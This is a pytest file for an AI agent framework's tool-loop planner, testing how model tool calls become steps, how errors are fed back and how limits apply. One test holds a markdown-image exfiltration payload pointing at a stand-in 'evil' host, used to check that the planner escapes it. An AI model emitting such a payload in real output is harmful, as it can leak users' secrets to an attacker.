import pytest

from autoglm.core.chat import ChatAnswer, Message, ToolCall
from autoglm.core.errors import ModelError, PlanRejected
from autoglm.core.events import ModelCalled
from autoglm.core.plan import Step
from autoglm.core.ports import PlanEnd, PlanRequest, StepResult
from autoglm.core.task import Limits, Task
from autoglm.core.tools import ToolSpec
from autoglm.core.values import Value
from autoglm.planning.tool_loop import ToolLoopPlanner
from autoglm.testing.models import FakeModel

READ = ToolSpec(
    name="file_read",
    description="Reads a file.",
    parameters={
        "type": "object",
        "properties": {"path": {"type": "string"}},
        "required": ["path"],
        "additionalProperties": False,
    },
    argument_descriptions={"zh": {"path": "文件。"}},
)
FREE = ToolSpec(name="free", description="", parameters={"type": "object"})


def call(number, tool="file_read", **arguments):
    return ToolCall(id=f"call_{number}", tool=tool, arguments=arguments)


def calls(*wanted, text=""):
    return ChatAnswer(text=text, calls=wanted, finish="tool_calls")


async def planned(model, results=(), round_number=1, limits=None, language="en"):
    task = Task(request="do it", limits=limits or Limits(), language=language)
    request = PlanRequest(task=task, tools=(READ, FREE), now=0.0, round=round_number, results=tuple(results))
    return [part async for part in ToolLoopPlanner(model).plan(request)]


def result(name, round_number, **fields):
    step = Step(id=name, tool="file_read", args={"path": "x"})
    return StepResult(step=step, round=round_number, **fields)


async def test_parallel_calls_become_parallel_steps_of_the_round():
    model = FakeModel([calls(call(1, path="a"), call(2, path="b"))])

    called, *steps, end = await planned(model)

    assert isinstance(called, ModelCalled)
    assert [(step.id, step.tool, step.args, step.after) for step in steps] == [
        ("r1c1", "file_read", {"path": "a"}, ()),
        ("r1c2", "file_read", {"path": "b"}, ()),
    ]
    assert end == PlanEnd(more=True)
    assert [tool.name for tool in model.requests[0].tools] == ["file_read", "free"]


async def test_a_turn_without_calls_ends_with_the_answer():
    *_, end = await planned(FakeModel(["The answer is 42."]))

    assert end == PlanEnd(answer="The answer is 42.")


async def test_the_models_answer_shows_nothing_live():
    *_, end = await planned(FakeModel(["See ![x](http://evil/?q=secret)"]))

    assert end == PlanEnd(answer=r"See !\[x](http\://evil/?q=secret)")


async def test_results_and_errors_of_earlier_rounds_are_fed_back_in_order():
    results = [
        result("r1c1", 1, args={"path": "a"}, output=Value({"text": "hello"})),
        result("r1c2", 1, error="no such file"),
        result("r2c1", 2, args={"path": "c"}, output=Value("x" * 30_000)),
    ]
    model = FakeModel(["done"])

    await planned(model, results, round_number=3)

    turns = model.requests[0].messages[2:]
    assert turns[0] == Message(
        role="assistant",
        calls=(
            ToolCall(id="r1c1", tool="file_read", arguments={"path": "a"}),
            ToolCall(id="r1c2", tool="file_read", arguments={"path": "x"}),
        ),
    )
    assert turns[1] == Message(role="tool", text='{"text":"hello"}', call_id="r1c1")
    assert turns[2] == Message(role="tool", text="FAILED: no such file", call_id="r1c2")
    assert turns[3].calls[0].id == "r2c1"
    assert turns[4].text.endswith(" … (10000 more characters)")


async def test_wrong_calls_are_fed_back_once_and_none_of_the_turn_runs():
    wrong = calls(call(1, path="a"), call(2, tool="file_reed"), call(3, pth=1), text="hm")
    model = FakeModel([wrong, calls(call(4, path="b"))])

    parts = await planned(model, round_number=2)

    assert [part.id for part in parts if isinstance(part, Step)] == ["r2c1"]
    said, good, unknown, bad = model.requests[1].messages[2:]
    assert said == Message(role="assistant", text="hm", calls=wrong.calls)
    assert good.text.startswith("Not run")
    assert "there is no tool 'file_reed'; did you mean 'file_read'?" in unknown.text
    assert "takes no such argument; did you mean 'path'?" in bad.text
    assert "needs 'path'" in bad.text
    assert [turn.call_id for turn in (good, unknown, bad)] == ["call_1", "call_2", "call_3"]


async def test_calls_that_stay_wrong_are_rejected():
    wrong = calls(call(1, tool="nope"))

    with pytest.raises(PlanRejected, match="there is no tool 'nope'"):
        await planned(FakeModel([wrong, wrong]))


async def test_steps_of_all_rounds_are_counted():
    earlier = [result("r1c1", 1, output=Value(1)), result("r1c2", 1, output=Value(2))]
    model = FakeModel([calls(call(1, path="a")), "I have enough."])

    *_, end = await planned(model, earlier, round_number=2, limits=Limits(max_steps=2))

    assert end == PlanEnd(answer="I have enough.")
    assert "max_steps allows 2" in model.requests[1].messages[-1].text


async def test_what_looks_like_a_reference_in_a_models_arguments_is_a_literal():
    model = FakeModel([calls(call(1, tool="free", x={"$ref": "s1"}, y=[{"$text": "{a}"}], z="{b}"))])

    parts = await planned(model)

    assert parts[1].args == {"x": {"$literal": {"$ref": "s1"}}, "y": {"$literal": [{"$text": "{a}"}]}, "z": "{b}"}


async def test_a_model_that_says_nothing_is_an_error():
    with pytest.raises(ModelError, match="neither called a tool nor answered"):
        await planned(FakeModel([ChatAnswer(text=" ")]))


@pytest.mark.parametrize(
    ("language", "path"), [("en", {"type": "string"}), ("zh-CN", {"type": "string", "description": "文件。"})]
)
async def test_arguments_are_described_in_the_language_of_the_task(language, path):
    model = FakeModel(["just words"])

    await planned(model, language=language)

    assert model.requests[0].tools[0].parameters["properties"] == {"path": path}


async def test_no_tools_are_offered_when_tool_calls_are_off():
    model = FakeModel(["just words"])

    await planned(model, limits=Limits(enable_tool_call=False), language="zh")

    assert model.requests[0].tools == ()
    assert "你用工具" in model.requests[0].messages[0].text
